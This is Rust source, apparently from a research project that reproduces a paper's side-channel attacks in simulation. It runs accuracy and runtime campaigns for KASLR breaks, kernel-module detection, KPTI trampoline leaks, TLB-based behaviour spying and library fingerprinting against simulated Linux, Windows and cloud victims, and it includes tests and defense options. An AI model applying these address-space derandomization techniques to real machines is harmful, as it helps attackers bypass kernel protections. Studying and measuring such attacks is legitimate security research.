    let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
    let (machine, truth) = sys.into_machine(profile.clone(), seed ^ 0xabcd);
    let mut p = SimProber::new(machine);
    let scan = AmdKernelBaseFinder::for_default_kernel().scan(&mut p);
    let mut accuracy = Trials::new();
    accuracy.record(scan.base == Some(truth.kernel_base));
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), scan.probing_cycles),
        total_seconds: seconds(p.clock_ghz(), scan.total_cycles),
        accuracy,
    }
}

fn modules_trial(profile: &CpuProfile, seed: u64) -> TrialOutcome {
    let (mut p, truth, th) = linux_prober(profile, LinuxConfig::seeded(seed), seed);
    let scan = ModuleScanner::new(th).scan(&mut p);
    let mut accuracy = Trials::new();
    for m in &truth.modules {
        accuracy.record(
            scan.detected
                .iter()
                .any(|d| d.base == m.base && d.size == m.spec.size),
        );
    }
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), scan.probing_cycles),
        total_seconds: seconds(p.clock_ghz(), scan.total_cycles),
        accuracy,
    }
}

fn kpti_trial(profile: &CpuProfile, seed: u64) -> TrialOutcome {
    let config = LinuxConfig {
        kpti: true,
        ..LinuxConfig::seeded(seed)
    };
    let (mut p, truth, th) = linux_prober(profile, config, seed);
    let scan = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
    let mut accuracy = Trials::new();
    accuracy.record(scan.base == Some(truth.kernel_base));
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), scan.probing_cycles),
        total_seconds: seconds(p.clock_ghz(), scan.total_cycles),
        accuracy,
    }
}

/// Spy observation length per behaviour trial (seconds at 1 Hz). Shorter
/// than the paper's 100 s plot window to keep campaign trials cheap.
const BEHAVIOUR_TRIAL_SECONDS: f64 = 30.0;

fn behaviour_trial(profile: &CpuProfile, seed: u64) -> TrialOutcome {
    let (mut p, truth, th) = linux_prober(profile, LinuxConfig::seeded(seed), seed);
    let timeline =
        ActivityTimeline::random(Behaviour::BluetoothAudio, BEHAVIOUR_TRIAL_SECONDS, 3, seed);
    let module = truth
        .module(timeline.behaviour.module_name())
        .expect("default module set loads the bluetooth module");
    let (base, pages) = (module.base, module.spec.pages());
    let tlb = TlbAttack::from_threshold(&th);
    let spy = TlbSpy::new(
        SpyConfig {
            duration_s: BEHAVIOUR_TRIAL_SECONDS,
            ..SpyConfig::default()
        },
        tlb,
    );
    let probing_before = p.probing_cycles();
    let total_before = p.total_cycles();
    let trace = spy.monitor(&mut p, base, |p, t| {
        apply_activity(p.machine_mut(), &timeline, base, pages, t);
    });
    let probing = p.probing_cycles() - probing_before;
    let total = p.total_cycles() - total_before;

    let detected = trace.detect_active(tlb.hit_boundary);
    let mut accuracy = Trials::new();
    for (sample, hit) in trace.samples.iter().zip(detected) {
        accuracy.record(hit == timeline.active_at(sample.t));
    }
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), probing),
        total_seconds: seconds(p.clock_ghz(), total),
        accuracy,
    }
}

fn userspace_trial(profile: &CpuProfile, seed: u64) -> TrialOutcome {
    let mut space = AddressSpace::new();
    let truth = build_process(
        &mut space,
        &ImageSignature::fig7_app(),
        &ImageSignature::standard_set(),
        seed,
    );
    // The attacker's own read-only page for calibration.
    let own = VirtAddr::new_truncate(0x5400_0000_0000);
    space
        .map(own, PageSize::Size4K, PteFlags::user_ro())
        .expect("calibration page free");
    let machine = Machine::new(profile.clone(), space, seed ^ 0xabcd);
    let mut p = SimProber::new(machine);
    let perm = PermissionAttack::calibrate(&mut p, own);
    let scanner = UserSpaceScanner::new(perm);

    let first = truth.libraries.first().expect("standard set non-empty");
    let last = truth.libraries.last().expect("standard set non-empty");
    let span = last.base.as_u64() + last.signature.span() + 0x10_0000 - first.base.as_u64();

    let probing_before = p.probing_cycles();
    let total_before = p.total_cycles();
    let map = scanner.scan(&mut p, first.base, span / 4096);
    let probing = p.probing_cycles() - probing_before;
    let total = p.total_cycles() - total_before;

    let matches = LibraryMatcher::new(ImageSignature::standard_set()).find_all(&map);
    let mut accuracy = Trials::new();
    for lib in &truth.libraries {
        accuracy.record(
            matches
                .iter()
                .any(|m| m.name == lib.signature.name && m.base == lib.base),
        );
    }
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), probing),
        total_seconds: seconds(p.clock_ghz(), total),
        accuracy,
    }
}

fn windows_trial(profile: &CpuProfile, seed: u64) -> TrialOutcome {
    let sys = WindowsSystem::build(WindowsConfig {
        seed,
        ..WindowsConfig::default()
    });
    let (machine, truth) = sys.into_machine(profile.clone(), seed ^ 0xabcd);
    let mut p = SimProber::new(machine);
    let th = Threshold::calibrate(&mut p, truth.user_scratch, 16);
    let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
    let mut accuracy = Trials::new();
    accuracy.record(scan.base == Some(truth.kernel_base));
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), scan.probing_cycles),
        total_seconds: seconds(p.clock_ghz(), scan.total_cycles),
        accuracy,
    }
}

fn cloud_trial(seed: u64) -> TrialOutcome {
    let mut accuracy = Trials::new();
    let (mut probing, mut total) = (0.0f64, 0.0f64);
    for scenario in CloudScenario::all(seed) {
        let report = run_scenario(&scenario, seed ^ 0xabcd);
        accuracy.record(report.base_correct);
        probing += report.probing_seconds;
        total += report.base_seconds + report.modules_seconds.unwrap_or(0.0);
    }
    TrialOutcome {
        probing_seconds: probing,
        total_seconds: total,
        accuracy,
    }
}

// ---------------------------------------------------------------------
// The historical single-scenario entry points, now thin wrappers over
// the engine (kept because benches, the repro binary and downstream
// users call them directly).

/// Runs the Intel kernel-base attack over fresh systems.
#[must_use]
pub fn intel_base_campaign(profile: &CpuProfile, config: CampaignConfig) -> CampaignRow {
    Scenario::KernelBase.campaign(profile, config)
}

/// Runs the module detection attack; accuracy is per true module
/// exactly detected (base and size), as in §IV-C.
#[must_use]
pub fn intel_modules_campaign(profile: &CpuProfile, config: CampaignConfig) -> CampaignRow {
    Scenario::Modules.campaign(profile, config)
}

/// Runs the AMD level-based base attack over fresh systems.
#[must_use]
pub fn amd_base_campaign(config: CampaignConfig) -> CampaignRow {
    Scenario::AmdKernelBase.campaign(&CpuProfile::zen3_ryzen5_5600x(), config)
}

/// The full Table I: the five paper rows in order (12400F base/modules,
/// 1065G7 base/modules, 5600X base). Module rows cap trials at 20 —
/// each trial probes 16384 slots.
#[must_use]
pub fn table1(config: CampaignConfig) -> Vec<CampaignRow> {
    let module_config = CampaignConfig {
        trials: config.trials.min(Scenario::Modules.max_trials()),
        ..config
    };
    vec![
        intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), config),
        intel_modules_campaign(&CpuProfile::alder_lake_i5_12400f(), module_config),
        intel_base_campaign(&CpuProfile::ice_lake_i7_1065g7(), config),
        intel_modules_campaign(&CpuProfile::ice_lake_i7_1065g7(), module_config),
        amd_base_campaign(config),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> CampaignConfig {
        CampaignConfig {
            trials: 6,
            seed0: 77,
        }
    }

    #[test]
    fn intel_base_campaign_reports_sane_numbers() {
        let row = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), small());
        assert_eq!(row.accuracy.total, 6);
        assert!(row.accuracy.rate() > 0.8);
        assert!(row.probing_seconds > 0.0);
        assert!(row.total_seconds > row.probing_seconds);
        assert!(row.total_seconds < 0.01, "sub-10ms attack");
    }

    #[test]
    fn module_campaign_counts_per_module() {
        let row = intel_modules_campaign(
            &CpuProfile::ice_lake_i7_1065g7(),
            CampaignConfig {
                trials: 2,
                seed0: 3,
            },
        );
        assert_eq!(row.accuracy.total, 2 * 125);
        assert!(row.accuracy.rate() > 0.95);
    }

    #[test]
    fn amd_campaign_slower_than_intel_desktop() {
        let amd = amd_base_campaign(small());
        let intel = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), small());
        assert!(amd.total_seconds > intel.total_seconds);
        assert!(amd.accuracy.rate() > 0.8);
    }

    #[test]
    fn table1_has_five_rows_in_paper_order() {
        let rows = table1(CampaignConfig {
            trials: 2,
            seed0: 0,
        });
        assert_eq!(rows.len(), 5);
        assert_eq!(rows[0].target, "Base");
        assert_eq!(rows[1].target, "Modules");
        assert!(rows[4].cpu.contains("5600X"));
        // Display is informative.
        assert!(rows[0].to_string().contains("%"));
    }

    #[test]
    fn every_scenario_succeeds_on_a_supported_profile() {
        let config = CampaignConfig {
            trials: 2,
            seed0: 11,
        };
        for scenario in Scenario::ALL {
            let profile = if scenario == Scenario::AmdKernelBase {
                CpuProfile::zen3_ryzen5_5600x()
            } else {
                CpuProfile::alder_lake_i5_12400f()
            };
            let row = scenario.campaign(&profile, config);
            assert!(row.accuracy.total > 0, "{scenario}: no records");
            assert!(
                row.accuracy.rate() > 0.8,
                "{scenario}: accuracy {} too low",
                row.accuracy
            );
            assert!(row.total_seconds >= row.probing_seconds, "{scenario}");
            assert!(row.probing_seconds > 0.0, "{scenario}");
        }
    }

    #[test]
    fn full_campaign_covers_all_scenarios_and_three_profiles() {
        let campaign = Campaign::full(CampaignConfig {
            trials: 1,
            seed0: 5,
        });
        let rows = campaign.run();
        // Six Intel-only scenarios run on 2 profiles, AMD base on 1,
        // Cloud once per campaign: 6 × 2 + 1 + 1 rows.
        assert_eq!(rows.len(), 14);
        let cpus: std::collections::HashSet<&str> = rows.iter().map(|r| r.cpu.as_str()).collect();
        assert_eq!(
            cpus.len(),
            4,
            "three probing profiles + the cloud-preset label"
        );
        assert!(cpus.contains("Cloud presets (EC2/GCE/Azure)"));
        assert_eq!(
            rows.iter().filter(|r| r.target == "Cloud").count(),
            1,
            "cloud presets pin their own CPUs, so one row only"
        );
        let targets: std::collections::HashSet<&str> = rows.iter().map(|r| r.target).collect();
        // All eight scenarios appear (Base covers both vendors' rows).
        assert_eq!(targets.len(), 7);
        for row in &rows {
            assert!(row.accuracy.total > 0, "{}: empty row", row.target);
        }
    }

    #[test]
    fn direct_campaign_calls_honor_the_exact_trial_count() {
        // Paper-scale n is the caller's choice: Scenario::campaign must
        // not silently cap (Campaign::run is the capping layer).
        let row = Scenario::Modules.campaign(
            &CpuProfile::alder_lake_i5_12400f(),
            CampaignConfig {
                trials: Scenario::Modules.max_trials() + 2,
                seed0: 9,
            },
        );
        assert_eq!(
            row.accuracy.total,
            (Scenario::Modules.max_trials() + 2) * 125
        );
        let capped = Campaign::new(
            vec![CpuProfile::alder_lake_i5_12400f()],
            vec![Scenario::WindowsKaslr],
            CampaignConfig {
                trials: 1000,
                seed0: 9,
            },
        )
        .run();
        assert_eq!(
            capped[0].accuracy.total,
            Scenario::WindowsKaslr.max_trials(),
            "Campaign::run bounds heavyweight scenarios"
        );
    }

    #[test]
    fn unsupported_pairs_are_skipped() {
        assert!(!Scenario::KernelBase.supported_on(&CpuProfile::zen3_ryzen5_5600x()));
        assert!(!Scenario::AmdKernelBase.supported_on(&CpuProfile::alder_lake_i5_12400f()));
        assert!(Scenario::Cloud.supported_on(&CpuProfile::alder_lake_i5_12400f()));
        let campaign = Campaign::new(
            vec![CpuProfile::zen3_ryzen5_5600x()],
            vec![Scenario::KernelBase],
            CampaignConfig {
                trials: 1,
                seed0: 0,
            },
        );
        assert!(campaign.run().is_empty());
    }

    #[test]
    fn campaign_trials_run_in_parallel_and_stay_deterministic() {
        let config = CampaignConfig {
            trials: 8,
            seed0: 42,
        };
        let a = Scenario::KernelBase.campaign(&CpuProfile::alder_lake_i5_12400f(), config);
        let b = Scenario::KernelBase.campaign(&CpuProfile::alder_lake_i5_12400f(), config);
        assert_eq!(a.accuracy, b.accuracy);
        assert!((a.probing_seconds - b.probing_seconds).abs() < 1e-12);
        assert!((a.total_seconds - b.total_seconds).abs() < 1e-12);
    }
}
