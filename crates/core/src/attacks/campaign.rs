//! Accuracy/runtime campaigns — the Table I methodology as an engine.
//!
//! The paper's Table I reruns each attack over n = 10000 freshly
//! randomized systems ("we rebooted Linux 10 times…", §IV-B) and
//! reports average probing/total runtime plus accuracy. This module
//! generalizes that loop to *every* attack of §IV: a [`Scenario`] knows
//! how to build one fresh victim system, run one attack against it and
//! score the outcome; a [`Campaign`] fans a scenario × CPU-profile ×
//! noise-profile matrix out over seed-numbered trials — in parallel via
//! rayon, since trials are independent by construction — and aggregates
//! each cell into one Table I-style [`CampaignRow`], including the
//! probes-per-address budget the cell actually spent.
//!
//! ```
//! use avx_channel::attacks::campaign::{Campaign, CampaignConfig, Scenario};
//! use avx_uarch::CpuProfile;
//!
//! let row = Scenario::KernelBase.campaign(
//!     &CpuProfile::alder_lake_i5_12400f(),
//!     CampaignConfig::new(4, 1),
//! );
//! assert_eq!(row.accuracy.total, 4);
//! assert!(row.probes_per_address > 0.0);
//! let _ = Campaign::full(CampaignConfig::new(2, 0));
//! ```

use core::fmt;

use rayon::prelude::*;

use avx_mmu::{AddressSpace, PageSize, PteFlags, VirtAddr};
use avx_os::activity::{apply_activity, ActivityTimeline, Behaviour};
use avx_os::cloud::CloudScenario;
use avx_os::linux::{LinuxConfig, LinuxSystem, KERNEL_SLOTS, KPTI_TRAMPOLINE_OFFSET, MODULE_SLOTS};
use avx_os::process::{build_process, ImageSignature};
use avx_os::windows::{WindowsConfig, WindowsSystem};
use avx_uarch::{CpuProfile, Machine, NoiseProfile, ObservablesVersion, Vendor};

use crate::adaptive::{AdaptiveSampler, Sampling};
use crate::calibrate::{CalibrationFit, CalibratorKind, Threshold};
use crate::decision::ConfirmConfig;
use crate::defense::{DefenseKind, DefenseRegion};
use crate::fleet::{legacy_trial_seed, machine_seed};
use crate::primitives::{PermissionAttack, TlbAttack};
use crate::prober::{Prober, SimProber};
use crate::recal::RecalConfig;
use crate::report::fmt_seconds;
use crate::schedule::ScheduleKind;
use crate::stats::Trials;

use super::behavior::{SpyConfig, TlbSpy};
use super::cloud::run_scenario_scheduled;
use super::kaslr::{AmdKernelBaseFinder, KernelBaseFinder};
use super::kpti::KptiAttack;
use super::modules::ModuleScanner;
use super::userspace::{LibraryMatcher, UserSpaceScanner};
use super::windows::WindowsKaslrAttack;

/// Campaign parameters.
#[derive(Clone, Copy, Debug)]
pub struct CampaignConfig {
    /// Fresh systems to attack (the paper uses 10000).
    pub trials: u64,
    /// First layout seed; trial *i* uses `seed0 + i`.
    pub seed0: u64,
    /// Noise environment the victim machines run in.
    pub noise: NoiseProfile,
    /// Probe-budget policy of the attacks.
    pub sampling: Sampling,
    /// Threshold estimator the attacks calibrate with. The default,
    /// [`CalibratorKind::Legacy`], is bit-exact with the historical
    /// calibration — golden rows only move when this is changed
    /// deliberately.
    pub calibrator: CalibratorKind,
    /// Closed-loop recalibration of the sweep attacks
    /// ([`crate::recal::Recalibrating`]). `None` — the default — is the
    /// paper's one-shot calibration; every pre-recalibration golden row
    /// is unchanged by construction.
    pub recal: Option<RecalConfig>,
    /// Confirmation decision layer of the needle-in-haystack scans
    /// ([`crate::decision`]). `None` — the default — keeps the
    /// historical first-mapped-wins detection rules bit-exact; every
    /// pre-confirmation golden row is unchanged by construction.
    pub confirm: Option<ConfirmConfig>,
    /// Noise-observables regime of the victim machines. The default,
    /// [`ObservablesVersion::V1`], is the bit-exact per-sample stream
    /// every pre-versioning golden row assumes;
    /// [`ObservablesVersion::V2`] runs the batched ziggurat kernel
    /// (distribution-equivalent, re-goldened once, tagged separately).
    pub observables: ObservablesVersion,
    /// Victim-side defense the trial machines run under
    /// ([`crate::defense`]). The default, [`DefenseKind::None`], is
    /// architecturally silent — every pre-defense golden row is
    /// bit-exact by construction.
    pub defense: DefenseKind,
    /// Event schedule the victim machines run under
    /// ([`crate::schedule`]). The default, [`ScheduleKind::None`], is
    /// architecturally silent (no schedule ⇒ no clock reads) — every
    /// pre-schedule golden row is bit-exact by construction.
    pub schedule: ScheduleKind,
}

impl Default for CampaignConfig {
    fn default() -> Self {
        Self {
            trials: 100,
            seed0: 0,
            noise: NoiseProfile::Quiet,
            sampling: Sampling::Fixed,
            calibrator: CalibratorKind::Legacy,
            recal: None,
            confirm: None,
            observables: ObservablesVersion::V1,
            defense: DefenseKind::None,
            schedule: ScheduleKind::None,
        }
    }
}

impl CampaignConfig {
    /// A quiet-host, fixed-sampling config — the paper's setup.
    #[must_use]
    pub fn new(trials: u64, seed0: u64) -> Self {
        Self {
            trials,
            seed0,
            ..Self::default()
        }
    }

    /// Same config under a different noise environment.
    #[must_use]
    pub fn with_noise(mut self, noise: NoiseProfile) -> Self {
        self.noise = noise;
        self
    }

    /// Same config under a different probe-budget policy.
    #[must_use]
    pub fn with_sampling(mut self, sampling: Sampling) -> Self {
        self.sampling = sampling;
        self
    }

    /// Same config under a different threshold estimator.
    #[must_use]
    pub fn with_calibrator(mut self, calibrator: CalibratorKind) -> Self {
        self.calibrator = calibrator;
        self
    }

    /// Same config with closed-loop recalibration enabled for every
    /// sweep-shaped attack (what `repro --recalibrate` selects).
    #[must_use]
    pub fn with_recalibration(mut self, recal: RecalConfig) -> Self {
        self.recal = Some(recal);
        self
    }

    /// Same config with the confirmation decision layer enabled for
    /// every needle-in-haystack scan (what `repro --confirm` selects).
    #[must_use]
    pub fn with_confirmation(mut self, confirm: ConfirmConfig) -> Self {
        self.confirm = Some(confirm);
        self
    }

    /// Same config under a different observables regime (what
    /// `repro --observables v2` selects).
    #[must_use]
    pub fn with_observables(mut self, observables: ObservablesVersion) -> Self {
        self.observables = observables;
        self
    }

    /// Same config against a defended victim (what `repro --defense`
    /// selects).
    #[must_use]
    pub fn with_defense(mut self, defense: DefenseKind) -> Self {
        self.defense = defense;
        self
    }

    /// Same config against an event-driven victim (what
    /// `repro --schedule` selects).
    #[must_use]
    pub fn with_schedule(mut self, schedule: ScheduleKind) -> Self {
        self.schedule = schedule;
        self
    }

    /// The adaptive sampler this config induces for a calibration fit
    /// on `profile`: [`Sampling::sampler_for_calibration`] with this
    /// config's estimator and the profile's oracle σ.
    #[must_use]
    pub fn sampler_for(
        &self,
        profile: &CpuProfile,
        fit: &CalibrationFit,
    ) -> Option<AdaptiveSampler> {
        self.sampling.sampler_for_calibration(
            self.calibrator,
            fit,
            self.noise.effective_sigma(&profile.timing),
        )
    }
}

/// One Table I row: averaged runtimes, the probe budget and the success
/// rate of one attack × CPU × noise cell.
#[derive(Clone, Debug)]
pub struct CampaignRow {
    /// CPU description.
    pub cpu: String,
    /// Attack target label ("Base", "Modules", …).
    pub target: &'static str,
    /// Noise environment the cell ran in.
    pub noise: NoiseProfile,
    /// Probe-budget policy label ("fixed", "fixed-budget", "adaptive").
    pub sampling: &'static str,
    /// Threshold-estimator label ("legacy", "trimmed", "bimodal",
    /// "noise-aware") the cell calibrated with.
    pub calibrator: &'static str,
    /// Observables-regime label ("v1", "v2") the cell's machines ran
    /// under.
    pub observables: &'static str,
    /// Defense label ("none", "masked", "rerandomizing") the cell's
    /// victims ran under.
    pub defense: &'static str,
    /// Schedule label ("none", "dvfs-square", "cotenant-burst",
    /// "module-churn") the cell's victims ran under.
    pub schedule: &'static str,
    /// Mean seconds inside the timed masked ops.
    pub probing_seconds: f64,
    /// Mean seconds including overhead.
    pub total_seconds: f64,
    /// Independent trials the cell ran.
    pub trials: u64,
    /// Raw probes issued across all trials of the cell.
    pub probes: u64,
    /// Mean raw probes per candidate address — the budget metric the
    /// adaptive engine economizes.
    pub probes_per_address: f64,
    /// Success tracker; what one record means is scenario-specific
    /// (per trial for bases, per module/library/sample otherwise).
    pub accuracy: Trials,
}

impl fmt::Display for CampaignRow {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Undefended rows keep the historical 4-part tag so every
        // pre-defense consumer (and golden assertion) is unchanged;
        // defended cells append their defense label and event-driven
        // cells their schedule label.
        let defense_tag = if self.defense == "none" {
            String::new()
        } else {
            format!("/{}", self.defense)
        };
        let schedule_tag = if self.schedule == "none" {
            String::new()
        } else {
            format!("/{}", self.schedule)
        };
        write!(
            f,
            "{} {} [{}/{}/{}/{}{}{}]: {} probing / {} total / {:.1} probes/addr / {:.2} %",
            self.cpu,
            self.target,
            self.noise,
            self.sampling,
            self.calibrator,
            self.observables,
            defense_tag,
            schedule_tag,
            fmt_seconds(self.probing_seconds),
            fmt_seconds(self.total_seconds),
            self.probes_per_address,
            self.accuracy.percent()
        )
    }
}

/// Result of one scenario trial against one fresh system.
#[derive(Clone, Copy, Debug, Default)]
pub struct TrialOutcome {
    /// Seconds inside the timed masked ops.
    pub probing_seconds: f64,
    /// Seconds including overhead.
    pub total_seconds: f64,
    /// Raw probes the trial issued (calibration included).
    pub probes: u64,
    /// Candidate addresses the trial's sweeps covered.
    pub addresses: u64,
    /// Success records of this trial (one per trial for base attacks,
    /// one per module/library/sample for the others).
    pub accuracy: Trials,
    /// Confirmation-layer confidence tag of the trial's scan, for
    /// scenarios whose scan reports one (KPTI today). `None` elsewhere;
    /// the fleet reducer histograms these.
    pub confidence: Option<super::KptiConfidence>,
}

/// A prebuilt victim system for one (scenario, seed) pair.
///
/// Trial layouts depend only on the scenario's config and the trial
/// seed — not on the CPU profile or the noise environment — so a
/// campaign builds each layout **once** and every (profile, noise) cell
/// runs its trials against copy-on-write snapshots
/// ([`avx_mmu::AddressSpace`] clones share the paging-structure arena
/// until first write). A fixture-driven trial is bit-exact with one
/// that builds its own system: the snapshot is structurally identical
/// to a fresh build from the same seed.
#[derive(Clone, Debug)]
pub enum TrialFixture {
    /// A Linux victim (kernel base, modules, KPTI, behaviour).
    Linux(LinuxSystem),
    /// A Windows victim (§IV-G).
    Windows(WindowsSystem),
    /// A user-space process image (§IV-F).
    Process {
        /// The process address space (pre-attacker mappings).
        space: AddressSpace,
        /// Layout ground truth.
        truth: avx_os::ProcessTruth,
    },
    /// The scenario builds its own systems per trial (cloud chains).
    Inline,
}

/// The eight end-to-end attacks of §IV as campaign scenarios.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum Scenario {
    /// §IV-B: Intel kernel-base derandomization (mapped/unmapped scan).
    KernelBase,
    /// §IV-B: AMD kernel base via walk-termination levels.
    AmdKernelBase,
    /// §IV-C: module detection (per-module exact base+size accuracy).
    Modules,
    /// §IV-D: KASLR break through the KPTI trampoline.
    Kpti,
    /// §IV-E: behaviour inference (per-sample spy/ground-truth
    /// agreement).
    Behaviour,
    /// §IV-F: user-space scan + library fingerprinting (per-library
    /// accuracy).
    UserSpace,
    /// §IV-G: Windows 10 18-bit region scan.
    WindowsKaslr,
    /// §IV-H: the three cloud-provider chains (per-provider accuracy).
    Cloud,
}

impl Scenario {
    /// All eight scenarios in paper order.
    pub const ALL: [Scenario; 8] = [
        Scenario::KernelBase,
        Scenario::AmdKernelBase,
        Scenario::Modules,
        Scenario::Kpti,
        Scenario::Behaviour,
        Scenario::UserSpace,
        Scenario::WindowsKaslr,
        Scenario::Cloud,
    ];

    /// The Table I-style target label of the scenario.
    #[must_use]
    pub fn target(self) -> &'static str {
        match self {
            Scenario::KernelBase | Scenario::AmdKernelBase => "Base",
            Scenario::Modules => "Modules",
            Scenario::Kpti => "KPTI",
            Scenario::Behaviour => "Behaviour",
            Scenario::UserSpace => "User space",
            Scenario::WindowsKaslr => "Windows",
            Scenario::Cloud => "Cloud",
        }
    }

    /// Whether the scenario's probing primitive works on `profile`.
    /// The mapped/unmapped signal (P2) needs Intel's cached kernel
    /// translations; the level signal (P3) is the AMD path.
    #[must_use]
    pub fn supported_on(self, profile: &CpuProfile) -> bool {
        match self {
            Scenario::AmdKernelBase => profile.vendor == Vendor::Amd,
            _ => profile.vendor == Vendor::Intel,
        }
    }

    /// Seed-space salt so different scenarios attack different layout
    /// populations (mirrors the historical per-campaign offsets).
    #[must_use]
    pub fn seed_salt(self) -> u64 {
        match self {
            Scenario::KernelBase => 0,
            Scenario::Modules => 1000,
            Scenario::AmdKernelBase => 2000,
            Scenario::Kpti => 3000,
            Scenario::Behaviour => 4000,
            Scenario::UserSpace => 5000,
            Scenario::WindowsKaslr => 6000,
            Scenario::Cloud => 7000,
        }
    }

    /// Per-scenario trial cap: the heavyweight sweeps (16384-page module
    /// scans, 262144-slot Windows scans, 100-sample spy sessions) cost
    /// orders of magnitude more simulated probes per trial, so campaigns
    /// bound them the way the seed code bounded module trials.
    #[must_use]
    pub fn max_trials(self) -> u64 {
        match self {
            Scenario::KernelBase | Scenario::AmdKernelBase | Scenario::Kpti => u64::MAX,
            Scenario::Modules | Scenario::UserSpace => 20,
            Scenario::Behaviour => 20,
            Scenario::WindowsKaslr => 8,
            Scenario::Cloud => 16,
        }
    }

    /// The randomization regions a victim-side defense protects for
    /// this scenario's victims ([`crate::defense`]). Linux victims
    /// defend both kernel text and the module area (the OS hardens its
    /// whole randomized address space, not just what this attack
    /// happens to target); Windows victims defend the 18-bit kernel
    /// region. User-space ASLR is process-local and outside the kernel
    /// defense menu, so [`Scenario::UserSpace`] defends nothing — its
    /// defended rows honestly equal its undefended ones. Cloud chains
    /// install per-guest regions inside the chain runner.
    #[must_use]
    pub fn defense_regions(self) -> Vec<DefenseRegion> {
        match self {
            Scenario::KernelBase
            | Scenario::AmdKernelBase
            | Scenario::Modules
            | Scenario::Kpti
            | Scenario::Behaviour => vec![
                DefenseRegion::linux_kernel_text(),
                DefenseRegion::linux_modules(),
            ],
            Scenario::WindowsKaslr => vec![DefenseRegion::windows_kernel()],
            Scenario::UserSpace | Scenario::Cloud => Vec::new(),
        }
    }

    /// Whether the scenario's probing loop is sweep-shaped and honors
    /// the campaign's [`Sampling`] policy. The Fig. 6 TLB spy is the
    /// exception: its per-sample evict/trigger/probe schedule is fixed
    /// by the behaviour-inference protocol, so its rows always report
    /// the fixed policy.
    #[must_use]
    pub fn honors_sampling(self) -> bool {
        !matches!(self, Scenario::Behaviour)
    }

    /// Builds the victim system one trial of this scenario attacks —
    /// the expensive, profile- and noise-independent part of a trial.
    #[must_use]
    pub fn build_fixture(self, seed: u64) -> TrialFixture {
        match self {
            Scenario::KernelBase
            | Scenario::AmdKernelBase
            | Scenario::Modules
            | Scenario::Behaviour => {
                TrialFixture::Linux(LinuxSystem::build(LinuxConfig::seeded(seed)))
            }
            Scenario::Kpti => TrialFixture::Linux(LinuxSystem::build(LinuxConfig {
                kpti: true,
                ..LinuxConfig::seeded(seed)
            })),
            Scenario::UserSpace => {
                let mut space = AddressSpace::new();
                let truth = build_process(
                    &mut space,
                    &ImageSignature::fig7_app(),
                    &ImageSignature::standard_set(),
                    seed,
                );
                TrialFixture::Process { space, truth }
            }
            Scenario::WindowsKaslr => TrialFixture::Windows(WindowsSystem::build(WindowsConfig {
                seed,
                ..WindowsConfig::default()
            })),
            Scenario::Cloud => TrialFixture::Inline,
        }
    }

    /// Runs one trial against a freshly randomized system under the
    /// config's noise environment and sampling policy.
    #[must_use]
    pub fn run_trial(
        self,
        profile: &CpuProfile,
        seed: u64,
        config: CampaignConfig,
    ) -> TrialOutcome {
        self.run_trial_with(profile, &self.build_fixture(seed), seed, config)
    }

    /// Runs one trial against a prebuilt fixture (obtained from
    /// [`Scenario::build_fixture`] with the same seed). The fixture is
    /// only snapshotted (copy-on-write), never mutated, so one fixture
    /// serves arbitrarily many (profile, noise) cells.
    ///
    /// # Panics
    ///
    /// Panics when the fixture kind does not match the scenario.
    #[must_use]
    pub fn run_trial_with(
        self,
        profile: &CpuProfile,
        fixture: &TrialFixture,
        seed: u64,
        config: CampaignConfig,
    ) -> TrialOutcome {
        match (self, fixture) {
            (Scenario::KernelBase, TrialFixture::Linux(sys)) => {
                kernel_base_trial(profile, sys, seed, config)
            }
            (Scenario::AmdKernelBase, TrialFixture::Linux(sys)) => {
                amd_base_trial(profile, sys, seed, config)
            }
            (Scenario::Modules, TrialFixture::Linux(sys)) => {
                modules_trial(profile, sys, seed, config)
            }
            (Scenario::Kpti, TrialFixture::Linux(sys)) => kpti_trial(profile, sys, seed, config),
            (Scenario::Behaviour, TrialFixture::Linux(sys)) => {
                behaviour_trial(profile, sys, seed, config)
            }
            (Scenario::UserSpace, TrialFixture::Process { space, truth }) => {
                userspace_trial(profile, space, truth, seed, config)
            }
            (Scenario::WindowsKaslr, TrialFixture::Windows(sys)) => {
                windows_trial(profile, sys, seed, config)
            }
            (Scenario::Cloud, TrialFixture::Inline) => cloud_trial(seed, config),
            (scenario, _) => panic!("fixture kind does not match scenario {scenario}"),
        }
    }

    /// Runs the scenario's full campaign against one CPU profile:
    /// `config.trials` rayon-parallel trials, aggregated into one row.
    /// The trial count is honored exactly (paper-scale n = 10000 is the
    /// caller's prerogative); [`Campaign::run`] is the layer that caps
    /// heavyweight scenarios via [`Scenario::max_trials`].
    #[must_use]
    pub fn campaign(self, profile: &CpuProfile, config: CampaignConfig) -> CampaignRow {
        let trials = config.trials.max(1);
        let outcomes: Vec<TrialOutcome> = (0..trials)
            .into_par_iter()
            .map(|i| {
                self.run_trial(
                    profile,
                    legacy_trial_seed(config.seed0, self.seed_salt(), i),
                    config,
                )
            })
            .collect();
        self.aggregate(profile, config, outcomes, trials)
    }

    /// [`Scenario::campaign`] against prebuilt fixtures: `fixtures[i]`
    /// must come from [`Scenario::build_fixture`] with seed
    /// `config.seed0 + seed_salt() + i`. Identical results to
    /// [`Scenario::campaign`] — the fixtures only hoist system
    /// construction out of the (profile, noise) cells.
    #[must_use]
    pub fn campaign_with(
        self,
        profile: &CpuProfile,
        config: CampaignConfig,
        fixtures: &[TrialFixture],
    ) -> CampaignRow {
        let trials = fixtures.len() as u64;
        let outcomes: Vec<TrialOutcome> = (0..fixtures.len())
            .into_par_iter()
            .map(|i| {
                self.run_trial_with(
                    profile,
                    &fixtures[i],
                    legacy_trial_seed(config.seed0, self.seed_salt(), i as u64),
                    config,
                )
            })
            .collect();
        self.aggregate(profile, config, outcomes, trials.max(1))
    }

    fn aggregate(
        self,
